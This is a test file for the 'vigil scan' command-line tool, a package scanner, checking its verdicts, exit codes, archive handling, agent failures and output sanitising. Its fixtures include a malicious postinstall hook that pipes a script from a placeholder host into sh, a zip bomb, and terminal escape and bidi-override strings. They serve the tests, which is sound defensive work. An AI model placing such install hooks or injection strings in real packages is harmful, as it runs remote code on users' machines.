import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { AGENT_BUNDLE_FORMAT, agentHash, type AgentBundle, type Track } from '@vigil/core';
import { referenceBundlePath } from '@vigil/reference-agents';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tgz, zip } from './support/archives.js';
import { json, vigil } from './support/cli.js';

// The echo agent of @vigil/sandbox (shipped in its `examples/`): it reports install-time scripts.
const ECHO = join(dirname(createRequire(import.meta.url).resolve('@vigil/sandbox/package.json')), 'examples', 'echo-agent', 'agent.mjs');

let dir: string;
let echoBundle: string;
let echoHash: string;

const EVIL_MANIFEST = `${JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } }, null, 2)}\n`;
const PLAIN_MANIFEST = `${JSON.stringify({ name: 'plain', version: '1.0.0', main: 'index.js' }, null, 2)}\n`;

function bundleFile(name: string, code: string): { path: string; hash: string } {
  const bundle: AgentBundle = { format: AGENT_BUNDLE_FORMAT, entrypoint: 'agent.mjs', files: [{ path: 'agent.mjs', content_base64: Buffer.from(code).toString('base64') }] };
  const path = join(dir, name);
  writeFileSync(path, JSON.stringify(bundle));
  return { path, hash: agentHash(bundle) };
}

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-scan-test-'));
  ({ path: echoBundle, hash: echoHash } = bundleFile('echo.bundle.json', readFileSync(ECHO, 'utf8')));
  mkdirSync(join(dir, 'evil-dir'));
  writeFileSync(join(dir, 'evil-dir', 'package.json'), EVIL_MANIFEST);
  writeFileSync(join(dir, 'evil.tgz'), tgz({ 'package/package.json': EVIL_MANIFEST, 'package/index.js': 'module.exports = 1;\n' }));
  mkdirSync(join(dir, 'builder'));
  writeFileSync(join(dir, 'builder', 'package.json'), `${JSON.stringify({ name: 'builder', version: '1.0.0', scripts: { postinstall: 'node build.js' } }, null, 2)}\n`);
  writeFileSync(join(dir, 'plain.zip'), zip({ 'plain/package.json': PLAIN_MANIFEST, 'plain/index.js': 'module.exports = 1;\n' }));
  writeFileSync(join(dir, 'bomb.zip'), zip({ 'package.json': PLAIN_MANIFEST, 'zeros.bin': Buffer.alloc(100 * 1024 * 1024) }));
  mkdirSync(join(dir, 'unknown'));
  writeFileSync(join(dir, 'unknown', 'notes.txt'), 'nothing here\n');
});

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

interface Report {
  track: Track;
  verdict: string | null;
  risk_score: number | null;
  findings: Array<Record<string, unknown>>;
  agent: { name: string; version: string | null; agent_hash: string };
  elapsed_ms: number;
  budget_exhausted: boolean;
  failure_reason: string | null;
}

describe('vigil scan', () => {
  it('scans a directory: exactly one JSON object, the finding with its file and line, exit 5 for BLOCK', async () => {
    const result = await vigil(['scan', join(dir, 'evil-dir'), '--agent', echoBundle, '--json']);
    expect(result.code, result.stderr).toBe(5);
    const report = json<Report>(result);
    expect(Object.keys(report).sort()).toEqual(['agent', 'budget_exhausted', 'elapsed_ms', 'failure_reason', 'findings', 'risk_score', 'track', 'verdict']);
    expect(report).toMatchObject({ track: 'packages', verdict: 'BLOCK', budget_exhausted: false, failure_reason: null, agent: { name: 'echo.bundle.json', version: null, agent_hash: echoHash } });
    expect(report.findings).toEqual([expect.objectContaining({ category: 'install_script', file: 'package.json', line: 5 })]);
    expect(report.elapsed_ms).toBeGreaterThan(0);
  });

  it('unpacks a .tgz (npm pack) and a .zip; the table names file:line', async () => {
    const tgzResult = await vigil(['scan', join(dir, 'evil.tgz'), '--agent', echoBundle]);
    expect(tgzResult.code, tgzResult.stderr).toBe(5);
    expect(tgzResult.stdout).toContain('package.json:5');
    expect(tgzResult.stdout).toContain('install_script');
    expect(tgzResult.stdout).toMatch(/BLOCK \(risk \d+\): 1 finding, packages, echo\.bundle\.json/);

    const zipResult = await vigil(['scan', join(dir, 'plain.zip'), '--agent', echoBundle, '--json', '--fail-on', 'block']);
    expect(zipResult.code, zipResult.stderr).toBe(0);
    expect(json<Report>(zipResult)).toMatchObject({ track: 'packages', verdict: 'ALLOW', findings: [] });
  });

  it('exits 4 for WARN, 0 for WARN with --fail-on block', async () => {
    const warned = await vigil(['scan', join(dir, 'builder'), '--agent', echoBundle]);
    expect(warned.code, warned.stderr).toBe(4);
    expect(warned.stdout).toMatch(/WARN \(risk \d+\): 1 finding/);
    const passed = await vigil(['scan', join(dir, 'builder'), '--agent', echoBundle, '--fail-on', 'block', '--json']);
    expect(passed.code, passed.stderr).toBe(0);
    expect(json<Report>(passed).verdict).toBe('WARN');
  });

  it('refuses a zip bomb before inflating it (exit 1, the unpacker says why)', async () => {
    const result = await vigil(['scan', join(dir, 'bomb.zip'), '--agent', echoBundle, '--json']);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^vigil: [^<].*bomb\.zip: archive entry "zeros\.bin" is larger than 67108864 bytes \(maxFileBytes\) \(file_too_large\)\n$/);
  });

  it('reports a failed agent run: failure_reason, budget_exhausted for a budget, exit 1', async () => {
    const loop = bundleFile('loop.bundle.json', 'for (;;) {}\n');
    const timedOut = await vigil(['scan', join(dir, 'evil-dir'), '--agent', loop.path, '--json', '--budget-wall-ms', '1500', '--budget-cpu-ms', '60000']);
    expect(timedOut.code).toBe(1);
    expect(json<Report>(timedOut)).toMatchObject({ verdict: null, risk_score: null, findings: [], budget_exhausted: true, failure_reason: 'timeout' });
    expect(timedOut.stderr).toContain('vigil: the agent run failed: timeout');

    const crash = bundleFile('crash.bundle.json', "throw new Error('boom');\n");
    const crashed = await vigil(['scan', join(dir, 'evil-dir'), '--agent', crash.path, '--json']);
    expect(crashed.code).toBe(1);
    expect(json<Report>(crashed)).toMatchObject({ verdict: null, budget_exhausted: false, failure_reason: 'crashed: exit 1' });
    // For people: no findings table, only the line saying there is no verdict.
    const plain = await vigil(['scan', join(dir, 'evil-dir'), '--agent', crash.path]);
    expect(plain.code).toBe(1);
    expect(plain.stdout).toMatch(/^no verdict: the agent run failed \(crashed: exit 1\), packages, \S+.*\n$/);
  });

  it('shows an agent’s escape sequences and bidi overrides as spaces in the findings table, never raw to the terminal', async () => {
    const sly = bundleFile('sly.bundle.json', "process.stdout.write(JSON.stringify({ verdict: 'WARN', risk_score: 50, findings: [{ type: 'static', category: 'x\\u001b[2J', severity: 'HIGH', title: 'clear \\u001b[31mred', file: 'a\\u001b]0;pwned\\u0007.js', evidence: 'e\\u009bm\\u202eevil' }] }));\n");
    const r = await vigil(['scan', join(dir, 'evil-dir'), '--agent', sly.path]);
    expect(r.code).toBe(4);
    // eslint-disable-next-line no-control-regex -- the assertion is about control characters
    expect(r.stdout).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
    expect(r.stdout).toContain('clear [31mred');
  });

  it('asks for --track when the files do not tell (exit 2); a missing path is exit 1', async () => {
    const unknown = await vigil(['scan', join(dir, 'unknown'), '--agent', echoBundle]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('--track: cannot tell the track of');
    const named = await vigil(['scan', join(dir, 'unknown'), '--agent', echoBundle, '--track', 'skills', '--json']);
    expect(named.code, named.stderr).toBe(0);
    expect(json<Report>(named).track).toBe('skills');
    const missing = await vigil(['scan', join(dir, 'nope')]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toBe(`vigil: ${join(dir, 'nope')}: does not exist\n`);
  });

  it('runs the reference agent of the detected track when it is built, else names the missing bundle', async () => {
    const result = await vigil(['scan', join(dir, 'evil.tgz'), '--json']);
    if (existsSync(referenceBundlePath('packages'))) {
      expect([4, 5]).toContain(result.code);
      expect(json<Report>(result)).toMatchObject({ track: 'packages', agent: { name: 'vigil-reference-packages' }, failure_reason: null });
    } else {
      console.warn('[scan] the packages reference agent is not built: only its absence is checked');
      expect(result.code).toBe(1);
      expect(result.stderr).toContain('no reference agent bundle for track packages');
    }
  });
});
